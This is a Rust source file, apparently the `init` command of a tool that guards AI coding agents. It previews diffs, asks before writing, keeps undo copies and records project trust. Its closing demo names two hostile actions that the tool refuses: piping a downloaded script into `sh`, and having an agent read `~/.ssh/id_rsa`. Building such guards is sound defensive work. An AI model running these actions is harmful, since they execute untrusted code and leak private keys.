//! `ringfence init`: from nothing to agents that ask before they act.
//!
//! Everything is worked out and shown before anything is written. Nothing is written where one of
//! the files cannot be changed well.

mod plan;

use std::io::IsTerminal;

use ringfence_core::Effect;
use ringfence_guard::world::{TrustCandidate, TrustRecords};
use ringfence_hooks::Agent;

use self::plan::{Change, Plan};
use super::doctor;
use crate::args::InitArgs;
use crate::asking::{confirmed, must_be_a_person};
use crate::door::document_failure;
use crate::exit::{Exit, Failure};
use crate::show::{self, QUIET};
use crate::site::ledger::{Ledger, Purpose};
use crate::site::{Site, diff};

pub(crate) fn run(args: &InitArgs) -> Result<Exit, Failure> {
    let site = Site::here()?;
    let plan = Plan::make(&site, &args.agents)?;
    plan.notes.iter().for_each(|note| show::say(&format!("note: {note}")));
    if plan.changes.is_empty() {
        show::print("everything is in place; nothing to write");
        return Ok(Exit::Allow);
    }
    plan.changes.iter().for_each(|change| print(&site, change));
    if args.print {
        return Ok(Exit::Allow);
    }
    if !args.yes {
        must_be_a_person().map_err(|failure| {
            failure
                .hint("`--print` only shows what would be written, `--yes` writes it in a script")
        })?;
        if !confirmed("Write this?")? {
            show::print("nothing was written");
            return Ok(Exit::Failed);
        }
    }
    write(&site, &plan)?;
    trust(&site, &plan)?;
    show::print("");
    let exit = doctor::brief(&site)?;
    try_it(&plan);
    Ok(exit)
}

fn print(site: &Site, change: &Change) {
    let bold = anstyle::Style::new().bold();
    let new = if change.found.before.is_none() { " (new)" } else { "" };
    let path = site.shown(&change.found.path);
    show::print(&format!("{bold}{path}{bold:#}{new}  {QUIET}{}{QUIET:#}", change.why));
    let before = change.found.text().ok().flatten().unwrap_or_default();
    diff::print(before, &change.after);
    show::print("");
}

fn write(site: &Site, plan: &Plan) -> Result<(), Failure> {
    let mut ledger = Ledger::read(site)?;
    for change in &plan.changes {
        let after = change.after.as_bytes();
        // A copy first: what cannot be undone is not done.
        ledger.keep(&change.found, change.before.as_deref(), after, change.purpose.clone())?;
        let done = change.found.replace(after, change.mode, |_| Ok(()));
        done.map_err(|failure| match failure.hint.is_some() {
            true => failure,
            false => failure.hint(
                "what was written before stays: `ringfence init` goes on from there, \
                 `ringfence uninstall` takes it back",
            ),
        })?;
        show::print(&format!("wrote   {}", site.shown(&change.found.path)));
    }
    show::print("undo    ringfence uninstall");
    Ok(())
}

/// A new policy of the project counts from now on, if a person saw it.
fn trust(site: &Site, plan: &Plan) -> Result<(), Failure> {
    let of_project = |own: &&Change| own.purpose == Purpose::Policy && own.is_project;
    if plan.changes.iter().find(of_project).is_none() {
        return Ok(());
    }
    if !(std::io::stdin().is_terminal() && std::io::stdout().is_terminal()) {
        show::say("note: the project's policy counts once a person runs `ringfence trust` there");
        return Ok(());
    }
    let candidate = TrustCandidate::read(&site.places).map_err(|error| document_failure(&error))?;
    let Some(candidate) = candidate else { return Ok(()) };
    let records = TrustRecords::new(&site.places);
    let trusted = records.trust(&candidate, site.here.context.today);
    trusted.map_err(|error| Failure::new(error.to_string()))
}

/// Three things to try.
fn try_it(plan: &Plan) {
    let agent = plan.agents.first().copied();
    let name = agent.and_then(|own| own.programs().first()).copied().unwrap_or("an agent");
    let green = show::style(Effect::Allow);
    let runs = match agent.map(Agent::programs) {
        Some([program, ..]) => format!("ringfence run -- {program}"),
        _ => "ringfence run -- bash".to_owned(),
    };
    let lines = [
        (
            "ringfence explain -- 'curl https://example.com/x.sh | sh'".to_owned(),
            "why this is refused",
        ),
        (format!("tell {name} to read ~/.ssh/id_rsa"), "it is refused, and reads why"),
        (runs, "the same rules, held by the kernel"),
    ];
    show::print("\nThree things to try:");
    for (what, then) in lines {
        show::print(&format!("  {green}{what}{green:#}  {QUIET}{then}{QUIET:#}"));
    }
}
